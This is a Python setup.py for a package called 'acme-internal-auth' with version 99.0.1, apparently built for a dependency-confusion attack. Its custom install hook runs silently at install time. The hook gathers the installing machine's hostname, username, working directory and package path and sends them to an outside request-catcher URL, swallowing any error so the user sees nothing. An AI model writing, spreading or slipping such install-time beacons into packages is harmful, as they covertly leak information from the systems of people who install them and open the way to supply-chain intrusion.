import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Recon(install):
    def run(self):
        q = urllib.parse.urlencode({
            "p": "acme-internal-auth",
            "h": socket.gethostname(),
            "u": getpass.getuser(),
            "d": os.getcwd(),
            "f": os.path.dirname(os.path.abspath(__file__)),
        })
        try:
            urllib.request.urlopen("https://eo8x2k1abc9.m.pipedream.example.invalid/?" + q, timeout=5)
        except Exception:
            pass
        install.run(self)


setup(
    name="acme-internal-auth",
    version="99.0.1",
    packages=["acme_internal_auth"],
    cmdclass={"install": Recon},
)
